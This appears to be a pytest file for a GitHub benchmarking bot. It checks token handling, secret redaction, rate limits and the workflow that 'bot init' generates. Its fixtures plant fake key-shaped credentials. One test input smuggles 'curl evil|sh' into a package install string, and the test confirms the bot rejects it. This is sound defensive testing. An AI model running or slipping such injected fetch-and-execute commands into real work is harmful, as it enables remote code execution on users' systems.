"""The GitHub surface under attack or failure, end to end where it matters: runs from comments on fresh
default branches, the token kept out of command lines (git over smart HTTP with Basic auth), secrets in commit
messages and log tails, slow and rate-limited API answers, and the workflow ``bot init`` writes."""

from __future__ import annotations

import json
import logging
import re
import sys
import threading
import time
from pathlib import Path
from types import SimpleNamespace

import git
import pytest
import yaml
from git_repos import IDENTITY, commit_all, committed_example, make_repo
from github import GithubException
from github_server import GitHttpServer

from benchmarks.runner import BenchJob, LocalRunner, RunRecord
from benchmarks.spec import Workload
from bot.cli import main as bot_main
from bot.comments.results import failed_runs
from bot.errors import BadInput
from bot.history import bot_commits
from bot.init import LOCK, PUBLIC_REPOSITORY_WARNING, WORKFLOW, init_repository
from bot.progress import Progress
from bot.redact import redact
from bot.security import scan_added_lines
from bot.service.dispatch import handle_event, run_request
from bot.trackers.base import PROGRESS, VERDICT
from bot.trackers.github import GitHubTracker

REPO = "acme/trainer"
TOKEN = "ghp_" + "M1n2B3v4C5x6Z7l8K9j0" * 2
PINNED = "perfbot @ git+https://github.com/acme/perfbot@" + "0123456789abcdef" * 2 + "01234567"
FAST = {"backoff": 0.01, "secondary_rate_wait": 0.01, "seconds_between_writes": 0}
# Shaped like real credentials, planted where the bot reads text.
AWS_KEY_ID = "AKIA" + "Q7XWBC2MZ3LNP4RT"
HF_TOKEN = "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ01234567"
OPENAI_KEY = "sk-proj-" + "Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0Fe" * 2
GOOGLE_KEY = "AIza" + "SyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY"
PGP_BODY = "lQOYBGX0c2wBCADQ1n7sF3y0Hk2m9PzT8vXqW4eR5tY6uI7oP8aS9dF0gH1jK2lZ"
PGP_KEY = f"-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n{PGP_BODY}\n=Ab1C\n-----END PGP PRIVATE KEY BLOCK-----"
PLANTED = (AWS_KEY_ID, HF_TOKEN, OPENAI_KEY, GOOGLE_KEY, PGP_BODY)


@pytest.fixture
def api(github_server):
    github_server.add_user(TOKEN, "perfbot")
    github_server.add_user("token-of-wes", "wes")
    return github_server


def add_target(api, clone_url: str, plan: str, issues=(12,)) -> None:
    api.add_repo(REPO, roles={"wes": "write"}, clone_url=clone_url)
    for number in issues:
        api.add_issue(REPO, number, f"Tier 1 plan {number}", plan)


def trigger(api, tmp_path: Path, issue: int, line: str) -> int:
    """``bot handle-event`` for a new comment by wes, with the real runner, in the current directory."""
    comment = api.add_comment(REPO, issue, "wes", line)
    event = {
        "action": "created",
        "issue": {"number": issue},
        "comment": {"id": comment["id"], "body": line, "user": {"login": "wes", "type": "User"}},
        "repository": {"full_name": REPO, "id": api.repos[REPO]["id"]},
    }
    path = tmp_path / f"event-{comment['id']}.json"
    path.write_text(json.dumps(event))
    tracker = GitHubTracker(REPO, TOKEN, base_url=api.url, **FAST)
    env = {"GITHUB_REPOSITORY": REPO}
    return handle_event(path, run_request, tracker=tracker, state_dir=tmp_path / "state", env=env)


def progress_of(api, issue: int) -> Progress:
    [comment] = [c for c in api.comments_on(REPO, issue) if c["body"].startswith(PROGRESS)]
    return Progress.from_comment(comment["body"])


# --- 5. every run starts from the freshly fetched default branch ------------------------------------------


def test_each_issue_branches_from_the_fetched_default_branch(api, bare_remote, tmp_path, monkeypatch):
    checkout = tmp_path / "checkout"
    repo = committed_example(checkout)
    repo.git.push(str(bare_remote), "main")
    add_target(api, str(bare_remote), (checkout / "PLAN.md").read_text(), issues=(12, 13))
    monkeypatch.chdir(checkout)

    assert trigger(api, tmp_path, 12, "/bot apply --tier 1") == 0
    assert repo.active_branch.name == "main"
    first = progress_of(api, 12)

    colleague = git.Repo.clone_from(str(bare_remote), tmp_path / "colleague")  # main moves on meanwhile
    (tmp_path / "colleague" / "NOTES.md").write_text("release notes\n")
    new_main = commit_all(colleague, "docs: notes")
    colleague.git.push("origin", "main")

    assert trigger(api, tmp_path, 13, "/bot apply --tier 1") == 0
    second = progress_of(api, 13)
    remote = git.Repo(bare_remote)
    assert second.baseline == new_main  # not issue 12's branch, not the stale local main
    ours = {c.sha for c in bot_commits(remote, second.baseline, "bot/13-tier-1")}
    assert ours and not ours & {c.sha for c in bot_commits(remote, first.baseline, "bot/12-tier-1")}
    assert all(row.status != "resumed" for row in second.rows)
    assert repo.active_branch.name == "main" and repo.head.commit.hexsha == new_main

    trigger(api, tmp_path, 12, "/bot review")  # no range: the issue's own work branch, then back to main
    [verdict] = [c["body"] for c in api.comments_on(REPO, 12) if c["body"].startswith(VERDICT)]
    assert all(
        sha[:7] in verdict for sha in {c.sha for c in bot_commits(remote, first.baseline, "bot/12-tier-1")}
    )
    assert repo.active_branch.name == "main"


# --- 6. the token never on a command line; secrets never posted or logged -----------------------------------


def test_token_reaches_git_through_the_environment_and_the_port_is_kept(api, tmp_path, monkeypatch):
    served = tmp_path / "served"
    bare = git.Repo.init(served / f"{REPO}.git", bare=True, initial_branch="main")
    checkout = tmp_path / "checkout"
    repo = committed_example(checkout)
    repo.git.push(bare.git_dir, "main")
    git_server = GitHttpServer(served, TOKEN).start()
    try:
        add_target(api, git_server.clone_url(REPO), (checkout / "PLAN.md").read_text())
        monkeypatch.chdir(checkout)
        tracker = GitHubTracker(REPO, TOKEN, base_url=api.url, **FAST)
        assert tracker.push_url() == git_server.clone_url(REPO)  # 127.0.0.1:<port>, no credentials

        assert trigger(api, tmp_path, 12, "/bot apply --tier 1") == 0
    finally:
        git_server.stop()
    assert "bot/12-tier-1" in [head.name for head in bare.heads]
    assert any(path.endswith("/git-receive-pack") for path in git_server.authorized)
    assert git_server.leaks == []  # no process showed the token on its command line meanwhile
    assert TOKEN not in json.dumps(api.comments_on(REPO, 12))


def test_commit_message_secrets_never_reach_a_comment_or_a_log(
    api, bare_remote, tmp_path, monkeypatch, caplog
):
    checkout = tmp_path / "checkout"
    repo = committed_example(checkout)
    (checkout / "NOTES.md").write_text("rotated\n")
    repo.git.add("-A")
    message = (
        f"chore: rotate {AWS_KEY_ID} and {HF_TOKEN}\n\nold keys: {OPENAI_KEY} {GOOGLE_KEY}\n\n{PGP_KEY}\n"
    )
    repo.git.commit("-qm", message, env=IDENTITY)
    repo.git.push(str(bare_remote), "main")
    add_target(api, str(bare_remote), (checkout / "PLAN.md").read_text())
    monkeypatch.chdir(checkout)
    # From here on: the set-up's own commit is logged by GitPython (3.2 logs each command line at DEBUG).
    caplog.set_level(logging.DEBUG)

    assert trigger(api, tmp_path, 12, "/bot review HEAD") == 1  # FAIL: a credential

    written = json.dumps(api.comments_on(REPO, 12))
    assert "credential" in written and "(commit message)" in written
    output = caplog.text + "".join(str(r.__dict__) for r in caplog.records)
    for secret in PLANTED:
        assert secret not in written and secret not in output


def test_scanner_flags_and_redact_masks_more_credential_shapes():
    for text, kind in [
        (PGP_KEY.splitlines()[0], "private key"),
        (f"OPENAI_API_KEY={OPENAI_KEY}", "OpenAI-style API key"),
        (f"maps = '{GOOGLE_KEY}'", "Google API key"),
    ]:
        [hit] = scan_added_lines("f", {1: text})
        assert hit.blocking and hit.detail.startswith(kind)
    masked = redact(f"a {AWS_KEY_ID} b {HF_TOKEN} c {OPENAI_KEY} d {GOOGLE_KEY}\n{PGP_KEY}\ne")
    assert all(secret not in masked for secret in PLANTED) and masked.endswith("\ne")


def test_failed_benchmark_log_tails_are_redacted():
    tail = f"export AWS_ACCESS_KEY_ID={AWS_KEY_ID}\nlogin {HF_TOKEN}\nkey={OPENAI_KEY}\nTraceback: boom"
    run = RunRecord("a" * 40, "train", 0, "crashed", 1.0, tail, None)
    [shown] = failed_runs(SimpleNamespace(failed_runs=[run]))
    text = json.dumps(shown)
    assert "Traceback: boom" in text and not any(secret in text for secret in PLANTED)


def test_benchmark_subprocesses_get_no_bot_credentials(tmp_path, monkeypatch):
    for name in ("PERFBOT_TOKEN", "GITHUB_TOKEN", "GH_TOKEN", "PERFBOT_WEBHOOK_SECRET", "PERFBOT_GIT_TOKEN"):
        monkeypatch.setenv(name, f"value-of-{name}")
    monkeypatch.setenv("HF_HOME", str(tmp_path / "hf"))  # an ordinary setting still reaches the workload
    repo = make_repo(tmp_path / "target", {"train.py": "print('hi')\n"})
    job = BenchJob(repo.head.commit.hexsha, Workload("w", "python train.py", steps=1), 0, "tiny", 0)

    def show_environment(job, metrics_path):
        return [sys.executable, "-c", "import os; print(' '.join(sorted(os.environ)))"]

    [record] = LocalRunner(repo, tmp_path / "bench", gpus=[], launch=show_environment).run([job])
    names = set(record.log_tail.split())
    assert "HF_HOME" in names
    assert not names & {
        "PERFBOT_TOKEN",
        "GITHUB_TOKEN",
        "GH_TOKEN",
        "PERFBOT_WEBHOOK_SECRET",
        "PERFBOT_GIT_TOKEN",
    }


# --- 7. slow and rate-limited answers -----------------------------------------------------------------------


@pytest.fixture
def issue(api):
    api.add_repo(REPO, roles={"wes": "write"})
    api.add_issue(REPO, 5, "plan", "| # | Change |")
    return 5


def test_create_saved_after_the_timeout_leaves_one_comment(api, issue):
    tracker = GitHubTracker(REPO, TOKEN, base_url=api.url, timeout=1, settle_wait=4, **FAST)
    api.slow("POST", rf"/repos/{REPO}/issues/{issue}/comments", 2.5)  # saved 1.5 s after the client gave up
    tracker.upsert_comment(issue, PROGRESS, f"{PROGRESS}\nstarted")
    time.sleep(1.5)  # long enough for a second POST to have landed, had there been one
    assert [c["body"] for c in api.comments_on(REPO, issue)] == [f"{PROGRESS}\nstarted"]


def test_duplicate_progress_comments_are_cleaned_up(api, issue):
    tracker = GitHubTracker(REPO, TOKEN, base_url=api.url, **FAST)
    first = api.add_comment(REPO, issue, "perfbot", f"{PROGRESS}\nstarted")
    api.add_comment(REPO, issue, "wes", "looking forward to it")
    api.add_comment(REPO, issue, "perfbot", f"{PROGRESS}\nstarted")  # a re-post after a lost answer
    tracker.upsert_comment(issue, PROGRESS, f"{PROGRESS}\nstep 2")
    assert [(c["id"], c["body"]) for c in api.comments_on(REPO, issue) if c["author"] == "perfbot"] == [
        (first["id"], f"{PROGRESS}\nstep 2")
    ]


@pytest.mark.parametrize("status", [403, 429])
def test_retry_after_beyond_the_longest_wait_fails_at_once(api, issue, status):
    tracker = GitHubTracker(REPO, TOKEN, base_url=api.url, backoff=0.01, seconds_between_writes=0)
    comment = tracker.upsert_comment(issue, PROGRESS, f"{PROGRESS}\nstarted")
    api.rate_limit("PATCH", rf"/repos/{REPO}/issues/comments/{comment.id}", retry_after=1200, status=status)
    outcome = []
    edit = threading.Thread(
        target=lambda: outcome.append(_raised(tracker.upsert_comment, issue, PROGRESS, "step 2")), daemon=True
    )
    started = time.monotonic()
    edit.start()
    edit.join(20)  # the issue lock must not be held for 20 minutes
    assert not edit.is_alive() and time.monotonic() - started < 10
    assert isinstance(outcome[0], GithubException)


def _raised(call, *args) -> BaseException | None:
    try:
        call(*args)
    except Exception as error:
        return error
    return None


# --- 8. the workflow `bot init` writes ---------------------------------------------------------------------


@pytest.mark.slow  # the real lock: pip downloads and hashes perfbot's ~26 dependency wheels (about 10 s)
def test_workflow_gates_on_permission_and_keeps_the_token_to_the_bot_step(tmp_path, capsys):
    assert bot_main(["init", str(tmp_path), "--install", PINNED]) == 0
    assert PUBLIC_REPOSITORY_WARNING in capsys.readouterr().err
    text = (tmp_path / WORKFLOW).read_text()
    assert "PUBLIC repository" in text
    workflow = yaml.safe_load(text)
    assert "concurrency" not in workflow  # GitHub would cancel a waiting run when a third comment comes
    assert workflow["permissions"] == {}
    assert workflow["env"] == {"PERFBOT_ALLOW_PUBLIC_REPOSITORY": "false"}

    gate, job = workflow["jobs"]["gate"], workflow["jobs"]["perfbot"]
    assert gate["runs-on"] == "ubuntu-latest"
    public, permission = gate["steps"]
    assert public["env"] == {"PRIVATE": "${{ github.event.repository.private }}"}
    assert "exit 1" in public["run"] and "PERFBOT_ALLOW_PUBLIC_REPOSITORY" in public["run"]
    assert "collaborators/$COMMENTER/permission" in permission["run"]
    assert "admin|write)" in permission["run"]
    assert job["needs"] == "gate" and job["if"] == "needs.gate.outputs.allowed == 'true'"

    checkout, install, run = job["steps"]
    action, _, ref = checkout["uses"].partition("@")
    assert action == "actions/checkout" and len(ref) == 40 and int(ref, 16) >= 0
    assert checkout["with"]["persist-credentials"] is False
    assert install["run"].splitlines() == [
        f"python -m pip install --require-hashes --no-deps --only-binary=:all: -r {LOCK.as_posix()}",
        f"python -m pip install --no-deps --no-build-isolation '{PINNED}'",
    ]
    lock = (tmp_path / LOCK).read_text()
    for name in ("gitpython", "pygithub", "libcst", "jinja2", "scipy", "setuptools", "urllib3"):
        assert re.search(rf"^{name}==[^ ]+ \\\n    --hash=sha256:[0-9a-f]{{64}}", lock, re.MULTILINE), name
    assert "env" not in checkout and "env" not in install
    assert run["env"] == {"PERFBOT_TOKEN": "${{ secrets.PERFBOT_TOKEN || github.token }}"}
    assert "token" not in json.dumps(gate["steps"][1]["env"]).replace("github.token", "")


@pytest.mark.parametrize(
    "install",
    [
        "perfbot",
        "perfbot==0.1.0",
        "perfbot @ git+https://github.com/acme/perfbot@main",
        "perfbot @ git+https://github.com/acme/perfbot@v1.0",
        "perfbot @ https://example.com/perfbot-0.1.0.whl",
        "perfbot @ git+https://github.com/a/p'; curl evil|sh; '@" + "0" * 40,
    ],
)
def test_init_refuses_an_unpinned_perfbot(tmp_path, install):
    with pytest.raises(BadInput, match="pinned|--install"):
        init_repository(tmp_path, install=install)
    assert not (tmp_path / WORKFLOW).exists()
